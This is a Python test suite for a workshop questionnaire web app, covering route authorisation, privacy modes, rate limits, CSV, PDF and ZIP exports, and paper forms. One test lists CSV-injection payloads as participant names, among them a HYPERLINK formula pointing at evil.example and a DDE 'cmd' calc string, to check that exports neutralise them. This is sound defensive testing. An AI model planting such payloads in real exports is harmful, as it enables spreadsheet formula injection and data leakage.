"""Workshops: authorisation on every coach route, privacy modes, join codes,
downloads read back, paper mode, background ZIP and the demo command."""

import csv
import io
import re
import time
import zipfile

import pytest
import zxingcpp
from PIL import Image
from pypdf import PdfReader
from redis import Redis
from sqlalchemy import select

from services.db import db
from services.filenames import file_name, numbered
from services.models import Coach, Response, Workshop
from services.workshops import ALPHABET, new_join_code, normalise_join_code
from web.log_redaction import redact

from .support.answers import varied_answers
from .support.app import make_app
from .support.coaches import create_workshop, join_and_complete, login, make_coach
from .support.forms import csrf_of
from .support.workshops import share_with


def coach_routes(app):
    """Every URL rule that takes a workshop id: the ones that must check ownership."""
    return [(rule, sorted(rule.methods - {"HEAD", "OPTIONS"})) for rule in app.url_map.iter_rules() if "workshop_id" in rule.arguments]


def wait_for_job(coach, workshop_id: int, job_id: int) -> dict:
    state = {}
    for _ in range(240):
        state = coach.get(f"/coach/workshops/{workshop_id}/jobs/{job_id}.json").get_json()
        if state["status"] in ("done", "failed"):
            break
        time.sleep(0.25)
    return state


# What only a workshop's owner may do: a co-facilitator gets 403 (they know the workshop).
OWNER_ONLY = {"workshops.delete", "workshops.share", "workshops.unshare"}


def coach_id_of(app, email: str) -> int:
    with app.app_context():
        return db.session.scalar(select(Coach.id).where(Coach.email == email))


def test_every_coach_route_is_checked_for_ownership(app, coach, instrument):
    """Walked three times: as the owner (every page there), as a co-facilitator (through
    the same gate, except the owner's own actions: 403) and as a stranger coach (404)."""
    workshop_id, code = create_workshop(coach, privacy="named")
    join_and_complete(app.test_client(), instrument, code, name="Ann", share=True)
    token = csrf_of(coach.get(f"/coach/workshops/{workshop_id}").text)
    started = coach.post(f"/coach/workshops/{workshop_id}/reports.zip", data={"csrf_token": token})
    job_id = int(started.location.split("job=")[1].split("#")[0])
    assert wait_for_job(coach, workshop_id, job_id)["status"] == "done"
    with app.app_context():
        response_id = db.session.scalar(select(Response.id).where(Response.workshop_id == workshop_id))
    make_coach(app, "co@example.com", "a co-facilitator's long password")
    assert share_with(coach, workshop_id, "co@example.com").status_code == 302
    # Real ids of the owner's workshop, response, job and co-facilitator: a route that forgot
    # owned_workshop() would answer the intruder with the owner's data, not 404.
    ids = {"workshop_id": workshop_id, "response_id": response_id, "job_id": job_id,
           "coach_id": coach_id_of(app, "co@example.com")}
    routes = coach_routes(app)
    assert len(routes) >= 15
    assert OWNER_ONLY <= {rule.endpoint for rule, _ in routes}
    for rule, methods in routes:
        url = rule.build(ids)[1]
        if "GET" in methods:
            assert coach.get(url).status_code != 404, f"the owner cannot reach {url}: the ids are not real"

    co = app.test_client()
    login(co, "co@example.com", "a co-facilitator's long password")
    co_token = csrf_of(co.get("/coach/workshops/new").text)
    for rule, methods in routes:
        url = rule.build(ids)[1]
        for method in methods:
            reply = co.open(url, method=method, data={"csrf_token": co_token} if method == "POST" else None)
            if rule.endpoint in OWNER_ONLY:
                assert reply.status_code == 403, (method, url, reply.status_code)
            else:
                assert reply.status_code not in (403, 404) and reply.status_code < 500, (method, url, reply.status_code)
    with app.app_context():
        assert db.session.get(Workshop, workshop_id) is not None  # the co-facilitator's delete did nothing
    assert "co@example.com" in coach.get(f"/coach/workshops/{workshop_id}").text  # nor their unshare

    intruder = app.test_client()
    make_coach(app, "other@example.com", "another long password")
    login(intruder, "other@example.com", "another long password")
    intruder_token = csrf_of(intruder.get("/coach/workshops/new").text)
    for rule, methods in routes:
        url = rule.build(ids)[1]
        for method in methods:
            reply = intruder.open(url, method=method, data={"csrf_token": intruder_token} if method == "POST" else None)
            assert reply.status_code == 404, (method, url, reply.status_code)

    # Nobody logged out gets in either: with a valid CSRF token, so that only the login check can stop a POST.
    stranger = app.test_client()
    stranger_token = csrf_of(stranger.get("/coach/login").text)
    for rule, methods in routes:
        url = rule.build(ids)[1]
        for method in methods:
            reply = stranger.open(url, method=method, data={"csrf_token": stranger_token} if method == "POST" else None)
            assert reply.status_code == 302 and "/coach/login" in reply.location, (method, url, reply.status_code)

    # and the owner's workshop survived every attempt
    assert coach.get(f"/coach/workshops/{workshop_id}").status_code == 200
    assert coach.get(f"/coach/workshops/{workshop_id}/jobs/{job_id}/download").status_code == 200


def test_participants_never_reach_the_team_view(app, coach, instrument):
    workshop_id, code = create_workshop(coach)
    participant = app.test_client()
    join_and_complete(participant, instrument, code)
    assert participant.get(f"/coach/workshops/{workshop_id}/team.json").status_code == 302


def test_anonymous_mode_shows_nothing_below_the_minimum_and_never_one_person(app, coach, instrument):
    workshop_id, code = create_workshop(coach, privacy="anonymous")
    people = app.test_client()
    for offset in range(4):
        join_and_complete(people, instrument, code, offset=offset)
    join_and_complete(people, instrument, code, complete=False)
    team = coach.get(f"/coach/workshops/{workshop_id}/team.json").get_json()
    assert team["summary"]["joined"] == 5 and team["summary"]["min_group"] == 5
    assert team["summary"]["completed"] == {"low": 0, "high": 0} and team["summary"]["in_progress"] is None
    assert team["summary"]["withheld"] is True and team["summary"]["scales"] == [] and team["chart"] is None
    assert team["grid"] == []
    csv_rows = list(csv.reader(io.StringIO(coach.get(f"/coach/workshops/{workshop_id}/scores.csv").data.decode("utf-8-sig"))))
    assert len(csv_rows) == 1  # header only
    join_and_complete(people, instrument, code, offset=4)
    team = coach.get(f"/coach/workshops/{workshop_id}/team.json").get_json()
    assert team["summary"]["withheld"] is False and team["summary"]["completed"] == {"low": 5, "high": 5}
    weak = next(s for s in team["summary"]["scales"] if s["id"] == "weak_close")
    assert sum(weak["band_counts"].values()) == 5 and weak["median"] % 10 == 0
    assert team["grid"] == [] and "scores" not in str(team["chart"]).lower().replace("score (", "")
    html = coach.get(f"/coach/workshops/{workshop_id}").text
    assert "data-grid" not in html


def test_named_mode_shows_only_those_who_shared(app, coach, instrument):
    workshop_id, code = create_workshop(coach, privacy="named")
    people = app.test_client()
    join_and_complete(people, instrument, code, name="Åsa Öström", share=True, offset=0)
    join_and_complete(people, instrument, code, name="Björn", share=True, offset=1)
    join_and_complete(people, instrument, code, name="Hemlig", share=False, offset=2)
    team = coach.get(f"/coach/workshops/{workshop_id}/team.json").get_json()
    assert {row["name"] for row in team["grid"]} == {"Åsa Öström", "Björn"}
    assert team["summary"]["completed"] == {"low": 3, "high": 3} and team["summary"]["included"] == 2
    html = coach.get(f"/coach/workshops/{workshop_id}").text
    assert "Hemlig" not in html and "Åsa Öström" in html


def test_join_codes_ignore_case_spaces_and_dashes():
    code = new_join_code()
    assert len(code) == 6 and set(code) <= set(ALPHABET)
    assert not set("0O1IL2Z5S8B") & set(ALPHABET)
    assert normalise_join_code(" " + code.lower()[:3] + " - " + code.lower()[3:] + " ") == code
    assert normalise_join_code("ABC") is None and normalise_join_code("ABCDEFG") is None
    assert normalise_join_code("O0O0O0") is None


def test_join_page_messages(app, coach, instrument):
    workshop_id, code = create_workshop(coach)
    visitor = app.test_client()
    page = visitor.get("/join")

    def attempt(text):
        return visitor.post("/join", data={"csrf_token": csrf_of(page.text), "code": text})

    assert attempt(code.lower()).location.endswith(f"/join/{code}")
    assert attempt(f"{code[:3]} {code[3:]}").location.endswith(f"/join/{code}")
    other = "XXXXXX" if code != "XXXXXX" else "YYYYYY"
    unknown = attempt(other)
    assert unknown.status_code == 400 and "no workshop with this code" in unknown.text
    assert visitor.get(f"/join/{other}").status_code == 404
    coach.post(f"/coach/workshops/{workshop_id}/close", data={"csrf_token": csrf_of(coach.get('/coach/').text)})
    closed = attempt(code)
    assert closed.status_code == 400 and "This workshop is closed" in closed.text
    assert visitor.get(f"/join/{code}").status_code == 410
    coach.post(f"/coach/workshops/{workshop_id}/reopen", data={"csrf_token": csrf_of(coach.get('/coach/').text)})
    assert attempt(code).status_code == 302
    # the anonymous join page names the real minimum group, not a number of its own
    minimum = app.config["ANONYMOUS_MIN_GROUP"]
    assert f"once at least {minimum} people have finished" in visitor.get(f"/join/{code}").text


def test_join_attempts_are_rate_limited(tmp_path):
    app = make_app(tmp_path, RATELIMIT_ENABLED=True, JOIN_FAILURE_LIMIT="30 per minute")
    client = app.test_client()
    token = csrf_of(client.get("/join").text)
    statuses = [client.post("/join", data={"csrf_token": token, "code": "AAAAAA"}).status_code for _ in range(31)]
    assert statuses[:30] == [400] * 30 and statuses[30] == 429
    guesses = [client.get(f"/join/AAAAA{c}").status_code for c in "ACDEFGHJKMNPQRTUVWXY34679"[:6]]
    assert guesses[-1] == 429  # guessing codes in the URL counts against the same limit


def test_with_redis_the_workers_share_one_join_limit(tmp_path, monkeypatch, redis_url):
    Redis.from_url(redis_url).flushdb()
    monkeypatch.setenv("REDIS_URL", redis_url)
    monkeypatch.delenv("RATELIMIT_STORAGE_URI", raising=False)
    workers = [make_app(tmp_path, RATELIMIT_ENABLED=True, JOIN_FAILURE_LIMIT="6 per minute")
               for _ in range(2)]  # two gunicorn workers: two apps in two processes, one Redis
    statuses = []
    for attempt in range(8):
        client = workers[attempt % 2].test_client()
        token = csrf_of(client.get("/join").text)
        statuses.append(client.post("/join", data={"csrf_token": token, "code": "AAAAAA"}).status_code)
    Redis.from_url(redis_url).flushdb()
    # Alone, each worker would have allowed 6 of its own, and these are 4 each.
    assert statuses[:6] == [400] * 6 and statuses[6:] == [429, 429]


def test_login_is_rate_limited_and_wrong_passwords_refused(tmp_path):
    app = make_app(tmp_path, RATELIMIT_ENABLED=True)
    email, _ = make_coach(app)
    client = app.test_client()
    # Per address: ten a minute, whichever accounts are tried (per account: tests/test_accounts.py).
    statuses = [login(client, f"{n}{email}" if n else email, "wrong password!").status_code for n in range(11)]
    assert statuses[:10] == [401] * 10 and statuses[10] == 429


def test_session_cookie_flags_and_logout(app, client):
    email, password = make_coach(app)
    reply = login(client, email, password)
    session_cookie = next(c for c in reply.headers.getlist("Set-Cookie") if c.startswith("session="))
    assert "HttpOnly" in session_cookie and "SameSite=Lax" in session_cookie
    assert client.get("/coach/").status_code == 200
    client.post("/coach/logout", data={"csrf_token": csrf_of(client.get("/coach/").text)})
    assert client.get("/coach/").status_code == 302


def test_change_password(app, coach):
    page = coach.get("/coach/password")
    wrong = coach.post("/coach/password", data={"csrf_token": csrf_of(page.text), "current": "nope", "new": "a brand new password", "confirm": "a brand new password"})
    assert wrong.status_code == 400 and "isn&#39;t right" in wrong.text
    ok = coach.post("/coach/password", data={"csrf_token": csrf_of(page.text), "current": "correct horse battery", "new": "a brand new password", "confirm": "a brand new password"})
    assert ok.status_code == 302
    fresh = app.test_client()
    assert login(fresh, "coach@example.com", "a brand new password").status_code == 302


def test_signup_only_when_allowed(app, client):
    assert client.get("/coach/signup").status_code == 404
    app.config["ALLOW_SIGNUP"] = True
    page = client.get("/coach/signup")
    reply = client.post("/coach/signup", data={"csrf_token": csrf_of(page.text), "email": "new@example.com", "password": "long enough pw"})
    assert reply.status_code == 302
    assert client.get("/coach/").status_code == 200


def test_csv_has_bom_versions_names_and_raw_answers(app, coach, instrument):
    workshop_id, code = create_workshop(coach, privacy="named", language="sv")
    people = app.test_client()
    join_and_complete(people, instrument, code, name="Åsa Öström", share=True, offset=0)
    join_and_complete(people, instrument, code, name="=HYPERLINK(1)", share=True, offset=1)
    data = coach.get(f"/coach/workshops/{workshop_id}/scores.csv").data
    assert data.startswith("\ufeff".encode("utf-8"))
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert {r["name"] for r in rows} == {"Åsa Öström", "'=HYPERLINK(1)"}
    first = next(r for r in rows if r["name"] == "Åsa Öström")
    assert first["instrument_id"] == "tripwire" and first["instrument_version"] == instrument.version
    assert {i.id: int(first[i.id]) for i in instrument.items} == varied_answers(instrument, 0)
    assert first["weak_close_band"] in ("low", "moderate", "high") and float(first["weak_close_score"]) >= 0


HOSTILE_NAMES = ['Anna;=HYPERLINK("http://evil.example/?"&A1;"click")', "Bo; +cmd|' /C calc'!A0", ";@SUM(1+1)*cmd",
                 "-2+3;-1", "Eva;\t=1+1", "Li\r\n=2+2;x"]


@pytest.mark.parametrize("separator", [";", ","])
def test_no_csv_cell_begins_a_formula_when_split_as_swedish_excel_does(app, coach, instrument, separator):
    """Issue 25, F10: Swedish Excel opens a .csv split at ';' (its list separator) and the
    commas stay inside the cells; a ';' in a name started a new cell that ran as a formula."""
    workshop_id, code = create_workshop(coach, privacy="named", language="sv")
    people = app.test_client()
    for n, name in enumerate(HOSTILE_NAMES):
        join_and_complete(people, instrument, code, name=name, share=True, offset=n)
    text = coach.get(f"/coach/workshops/{workshop_id}/scores.csv").data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 1 + len(HOSTILE_NAMES)
    names = [row[0] for row in rows[1:]]
    assert all(name.replace("'", "").replace("\r\n", "\n") for name in names)
    # Naive splitting (no quotes honoured) at the separator and at every line break.
    cells = [cell for line in re.split(r"\r\n|\r|\n", text) for cell in line.split(separator)]
    dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    # Quote-aware parsing too (Excel honours quotes at a cell's start): every cell of every row.
    parsed = [cell for line in csv.reader(io.StringIO(text), delimiter=separator) for cell in line]
    assert [cell for cell in parsed if cell[:1] in ("=", "+", "-", "@")] == []


def test_team_pdf_reads_back(app, coach, instrument):
    workshop_id, code = create_workshop(coach, title="Höstkickoff & <b>fest</b>", privacy="named", language="sv")
    people = app.test_client()
    for n, name in enumerate(["Åsa", "Örjan", "Ärla"]):
        join_and_complete(people, instrument, code, name=name, share=True, offset=n)
    reply = coach.get(f"/coach/workshops/{workshop_id}/team.pdf")
    assert reply.status_code == 200 and reply.mimetype == "application/pdf"
    assert reply.headers["Content-Disposition"].startswith('attachment; filename="grupp-hostkickoff-b-fest-b')
    text = "\n".join(p.extract_text() for p in PdfReader(io.BytesIO(reply.data)).pages)
    assert "Höstkickoff & <b>fest</b>" in text and "Grupprapport" in text
    assert "Frågor till diskussionen" in text and "Hur många gånger följer vi upp en offert" in text
    assert all(name in text for name in ("Åsa", "Örjan", "Ärla"))
    assert "Uppskjuten kontakt" in text and "Median" in text


def test_individual_pdf_only_for_those_who_shared(app, coach, instrument):
    workshop_id, code = create_workshop(coach, privacy="named")
    people = app.test_client()
    join_and_complete(people, instrument, code, name="Shared", share=True)
    join_and_complete(people, instrument, code, name="Private", share=False, offset=1)
    assert coach.get(f"/coach/workshops/{workshop_id}/responses/1.pdf").status_code == 200
    assert coach.get(f"/coach/workshops/{workshop_id}/responses/2.pdf").status_code == 404


@pytest.mark.parametrize("processes", [1, 2])
def test_zip_of_shared_profiles_in_the_background(app, coach, instrument, processes):
    app.config["REPORT_PROCESSES"] = processes
    workshop_id, code = create_workshop(coach, privacy="named")
    people = app.test_client()
    join_and_complete(people, instrument, code, name="Åsa", share=True)
    join_and_complete(people, instrument, code, name="Bo", share=True, offset=1)
    join_and_complete(people, instrument, code, name="Cissi", share=False, offset=2)
    token = csrf_of(coach.get(f"/coach/workshops/{workshop_id}").text)
    reply = coach.post(f"/coach/workshops/{workshop_id}/reports.zip", data={"csrf_token": token})
    assert reply.status_code == 302
    state = wait_for_job(coach, workshop_id, int(reply.location.split("job=")[1].split("#")[0]))
    assert state["status"] == "done" and state["done"] == state["total"] == 2
    archive = zipfile.ZipFile(io.BytesIO(coach.get(state["download"]).data))
    everything = sorted(archive.namelist())
    # Each profile beside its coach's edition.
    assert sorted(n for n in everything if n.startswith("coach-edition-")) == [n.replace("profile-", "coach-edition-") for n in everything if n.startswith("profile-")]
    names = [n for n in everything if n.startswith("profile-")]
    assert len(names) == 2 and all(n.endswith(".pdf") for n in names)
    assert any("asa" in n for n in names) and not any("cissi" in n for n in everything)
    for name in names:  # each file holds its own person's report
        text = "".join(page.extract_text() for page in PdfReader(archive.open(name)).pages)
        assert ("Name Åsa\n" in text) == ("-asa-" in name) and ("Name Bo\n" in text) == ("-bo-" in name)


def test_paper_mode(app, coach, instrument):
    workshop_id, _ = create_workshop(coach, privacy="named", language="sv")
    blank = coach.get(f"/coach/workshops/{workshop_id}/questionnaire.pdf?lang=sv")
    assert blank.status_code == 200
    # the file's name: the catalog's word and the workshop's title, no internal id such as the instrument's
    assert blank.headers["Content-Disposition"] == 'attachment; filename="frageformular-saljteamet.pdf"'
    text = " ".join(" ".join(p.extract_text() for p in PdfReader(io.BytesIO(blank.data)).pages).split())
    assert "Nästan alltid" in text and "Frågeformulär" in text
    page = coach.get(f"/coach/workshops/{workshop_id}/paper")
    answers = varied_answers(instrument, 1)
    data = {"csrf_token": csrf_of(page.text), "name": "Pappers-Per", "language": "sv", "share_with_coach": "y",
            **{k: str(v) for k, v in answers.items()}}
    partial = dict(data)
    del partial["pc1"]
    tampered = dict(data, pc1="9")
    refused = coach.post(f"/coach/workshops/{workshop_id}/paper", data=tampered)
    assert refused.status_code == 422 and ("Fråga 1: " in refused.text or "Question 1: " in refused.text)
    done = coach.post(f"/coach/workshops/{workshop_id}/paper", data=data)
    assert done.status_code == 200 and "/response/" in done.text
    team = coach.get(f"/coach/workshops/{workshop_id}/team.json").get_json()
    assert [r["name"] for r in team["grid"]] == ["Pappers-Per"]
    # A blank is allowed within the scoring rules: the form is saved.
    assert coach.post(f"/coach/workshops/{workshop_id}/paper", data=partial).status_code == 200


def test_a_paper_slip_carries_a_short_link_to_type_that_opens_only_that_profile(app, coach, instrument):
    """Issue 28: the slip's link is short enough to type (four groups of five, 100 random
    bits), read back in any case with spaces, never written to a log, and a wrong one is refused."""
    workshop_id, _ = create_workshop(coach, privacy="named", language="sv")
    page = coach.get(f"/coach/workshops/{workshop_id}/paper")
    data = {"csrf_token": csrf_of(page.text), "name": "Pappers-Per", "language": "sv",
            **{k: str(v) for k, v in varied_answers(instrument, 1).items()}}
    done = coach.post(f"/coach/workshops/{workshop_id}/paper", data=data)
    slip = done.text.split("data-paper-slip")[1]
    short = re.search(r"<code>(https?://[^<]+)</code>", slip).group(1)
    code = re.fullmatch(r"https?://[^/]+/p/([A-HJ-NP-Z2-9]{5}(?:-[A-HJ-NP-Z2-9]{5}){3})", short).group(1)
    visitor = app.test_client()
    typed = " ".join(code.lower().split("-"))  # as a person types it from paper
    opened = visitor.get(f"/p/{typed}")
    assert opened.status_code == 302 and opened.location.endswith("/response/" + code.replace("-", ""))
    profile = visitor.get(opened.location, follow_redirects=True)
    assert profile.status_code == 200 and "Pappers-Per" in profile.text
    # One character off, or too short: refused, saying what a code looks like.
    wrong = code[:-1] + ("A" if code[-1] != "A" else "B")
    unknown = visitor.get(f"/p/{wrong}")
    assert unknown.status_code == 404 and "Det finns inget formulär på den här länken" in unknown.text
    short = visitor.get(f"/p/{code[:10]}")
    assert short.status_code == 404 and "fyra grupper med fem" in short.text
    # The code is a private link: no log line keeps it.
    assert code not in redact(f'"GET /p/{code} HTTP/1.1" 302') and code.replace("-", "") not in redact(
        f'"GET /response/{code.replace("-", "")}/profile HTTP/1.1" 200')


def test_delete_workshop_deletes_its_responses(app, coach, instrument):
    workshop_id, code = create_workshop(coach)
    person = join_and_complete(app.test_client(), instrument, code)
    page = coach.get(f"/coach/workshops/{workshop_id}/delete")
    coach.post(f"/coach/workshops/{workshop_id}/delete", data={"csrf_token": csrf_of(page.text)})
    assert coach.get(f"/coach/workshops/{workshop_id}").status_code == 404
    assert app.test_client().get(person.url("/profile")).status_code == 404


@pytest.mark.browser
def test_qr_code_is_svg_of_the_join_url(coach, page):
    workshop_id, code = create_workshop(coach)
    reply = coach.get(f"/coach/workshops/{workshop_id}/qr.svg")
    assert reply.mimetype == "image/svg+xml" and reply.data.startswith(b"<svg")
    # Drawn by Chromium as a browser or projector shows it, then read by a real QR decoder.
    page.set_content(f"<body style='margin:0;background:#fff'>{reply.data.decode()}</body>")
    image = Image.open(io.BytesIO(page.locator("svg").screenshot()))
    decoded = [barcode.text for barcode in zxingcpp.read_barcodes(image) if barcode.format == zxingcpp.BarcodeFormat.QRCode]
    assert decoded == [f"http://localhost/join/{code}"]


def test_demo_workshop_command(app, runner):
    result = runner.invoke(args=["demo-workshop", "--participants", "30", "--seed", "7"])
    assert result.exit_code == 0, result.output
    email = result.output.split("e-mail:")[1].split()[0]
    password = result.output.split("password:")[1].split()[0]
    client = app.test_client()
    assert login(client, email, password).status_code == 302
    team = client.get("/coach/workshops/1/team.json").get_json()
    assert team["summary"]["completed"] == {"low": 30, "high": 30} and len(team["grid"]) == team["summary"]["included"] > 15
    bands = {row["scores"]["weak_close"]["band"] for row in team["grid"]}
    assert len(bands) >= 2  # varied profiles


def test_file_names_come_from_the_catalog_and_show_no_ids(app):
    with app.app_context():
        assert file_name("sv", "team", "Höstkickoff & <b>fest</b>", "2026-11-27", ext="pdf") == "grupp-hostkickoff-b-fest-b-2026-11-27.pdf"
        assert file_name("en", "team", "???", "2026-11-27", ext="pdf") == "team-2026-11-27.pdf"
        assert file_name("sv", "questionnaire", ext="pdf") == "frageformular.pdf"
        assert file_name("sv", "follow-up", "2026-12-01", ext="ics") == "uppfoljning-2026-12-01.ics"
    taken = {"profil-asa.pdf", "profil-asa-2.pdf"}
    assert numbered("profil-asa.pdf", taken) == "profil-asa-3.pdf" and numbered("profil-bo.pdf", taken) == "profil-bo.pdf"


def test_a_title_of_only_spaces_is_refused_and_nothing_is_created(app, coach):
    page = coach.get("/coach/workshops/new")
    reply = coach.post("/coach/workshops/new", data={
        "csrf_token": csrf_of(page.text), "title": "   ", "held_on": "2026-11-27", "language": "en",
        "privacy_mode": "anonymous"})
    assert reply.status_code == 400 and "Give the workshop a title." in reply.text
    with app.app_context():
        assert db.session.scalars(select(Workshop)).all() == []


@pytest.mark.parametrize("privacy", ["named", "anonymous"])
def test_team_pdf_first_page_holds_the_whole_band_section(app, coach, instrument, privacy):
    """The band section (chart, table, notes) ends on page 1: its last note
    used to spill onto a page of its own, with nothing else on it."""
    workshop_id, code = create_workshop(coach, title="Säljteamet Öst – vecka 48", privacy=privacy, language="sv")
    people = app.test_client()
    for n in range(6):
        join_and_complete(people, instrument, code, name=f"Deltagare {n}", share=True, offset=n, language="sv")
    pages = [p.extract_text() for p in PdfReader(io.BytesIO(coach.get(f"/coach/workshops/{workshop_id}/team.pdf").data)).pages]
    assert "jämför ingen med andra säljare" in " ".join(pages[0].split()), "the bands note is not on page 1"
    assert "Frågor till diskussionen" in pages[1], "page 2 is not the discussion page"
